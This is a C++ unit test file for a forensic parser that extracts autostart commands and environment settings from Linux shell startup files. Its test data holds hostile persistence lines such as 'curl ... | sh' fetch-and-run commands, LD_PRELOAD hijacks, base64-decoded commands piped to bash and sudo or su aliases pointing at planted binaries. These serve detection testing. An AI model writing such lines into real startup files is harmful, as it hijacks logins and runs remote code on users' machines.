#include "support/collecting_context.hpp"
#include "support/samples.hpp"
#include "traces/linux_shell_startup/parser.hpp"
#include <gtest/gtest.h>

namespace konseki::linux_shell_startup {

namespace {

void parse_all(std::string_view content, std::string_view name, test::CollectingContext& collected)
{
    parser.parse({ as_bytes(content), { 0, content.size() }, name }, collected.context);
}

std::string sample()
{
    return test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_shell_startup/testdata/bashrc");
}

std::vector<std::string> column(std::vector<test::Row> const& rows, std::string const& name)
{
    std::vector<std::string> values;
    for (auto const& row : rows)
        values.push_back(row.contains(name) ? row.at(name) : "");
    return values;
}

}

// covers: L11 L13
TEST(LinuxShellStartup, LinesThatRunSomethingAreRowsAndTheOthersAreCounted)
{
    auto const content = sample();
    constexpr std::string_view name = "[root]/home/hanako/.bashrc";
    EXPECT_EQ(parser.sniff(as_bytes(content), name), Sniff::sure);
    test::CollectingContext collected;
    parse_all(content, name, collected);
    auto const rows = collected.rows("linux.autostart");
    auto const commands = column(rows, "command");
    EXPECT_EQ(commands,
        (std::vector<std::string> { "eval \"$(dircolors -b)\"", "alias sudo='/home/h/.cache/sudo'", "ssh",
            "PROMPT_COMMAND=curl -s http://x | sh", "LD_PRELOAD=/home/h/x.so", "nohup /dev/shm/.a >/dev/null 2>&1 &",
            "/usr/local/bin/agent --start", ". ~/.bash_aliases", "echo ZWNobyBoaQ== | base64 -d | bash" }));
    EXPECT_EQ(rows[0].at("user"), "hanako");
    EXPECT_EQ(rows[0].at("location"), "L11");
    EXPECT_EQ(rows[0].at("schedule"), "interactive shell");
    EXPECT_EQ(rows[2].at("name"), "function ssh");
    EXPECT_EQ(rows[3].at("detail"), "does: fetches pipes_to_interpreter");
    EXPECT_EQ(rows[4].at("location"), "L13");
    EXPECT_EQ(rows[6].at("line"), "19");
    auto const settings = collected.rows("linux.setting");
    EXPECT_EQ(column(settings, "name"),
        (std::vector<std::string> { "commands", "HISTSIZE", "HISTCONTROL", "PATH", "PROMPT_COMMAND", "LD_PRELOAD" }));
    EXPECT_EQ(settings[3].at("value"), "$PATH:/tmp/bin");
    EXPECT_TRUE(settings[0].at("value").ends_with("without a row"));
}

// covers: L10
TEST(LinuxShellStartup, EnvironmentFilesGiveTheirVariables)
{
    test::CollectingContext collected;
    parse_all("PATH=\"/usr/bin\"\n# c\nexport LD_PRELOAD=/x.so\nbroken line here\n=1\n", "/etc/environment", collected);
    parse_all("LD_AUDIT DEFAULT=/y.so\n", "/root/.pam_environment", collected);
    auto const settings = collected.rows("linux.setting");
    ASSERT_EQ(settings.size(), 4U);
    EXPECT_EQ(settings[0].at("value"), "/usr/bin");
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 2U);
    EXPECT_EQ(rows[0].at("kind"), "preload");
    EXPECT_EQ(rows[0].at("command"), "LD_PRELOAD=/x.so");
    EXPECT_EQ(rows[1].at("user"), "root");
    EXPECT_EQ(collected.diagnostics.list.size(), 1U);
}

TEST(LinuxShellStartup, FishAndCshSayItInTheirOwnWords)
{
    test::CollectingContext collected;
    parse_all("set -gx LD_PRELOAD /x.so\nfunction sudo\n  /tmp/sudo $argv\nend\nswitch $x\ncase a\n  true\nend\ncurl x "
              "| sh\n",
        "/home/h/.config/fish/config.fish", collected);
    parse_all("setenv PATH /tmp:$PATH\nalias su '/tmp/su'\n", "/etc/csh.cshrc", collected);
    auto const commands = column(collected.rows("linux.autostart"), "command");
    EXPECT_EQ(commands,
        (std::vector<std::string> {
            "LD_PRELOAD=/x.so", "sudo", "/tmp/sudo $argv", "curl x | sh", "alias su '/tmp/su'" }));
    EXPECT_EQ(collected.rows("linux.setting").at(2).at("name"), "commands");
    EXPECT_EQ(collected.rows("linux.setting").at(3).at("value"), "/tmp:$PATH");
}

TEST(LinuxShellStartup, EveryPrefixIsReadWithoutHarm)
{
    auto const content = sample();
    for (std::size_t size = 0; size < content.size(); ++size) {
        test::CollectingContext collected;
        parse_all(std::string_view(content).substr(0, size), "/root/.bashrc", collected);
        EXPECT_LE(collected.rows("linux.autostart").size(), 12U);
    }
}

}
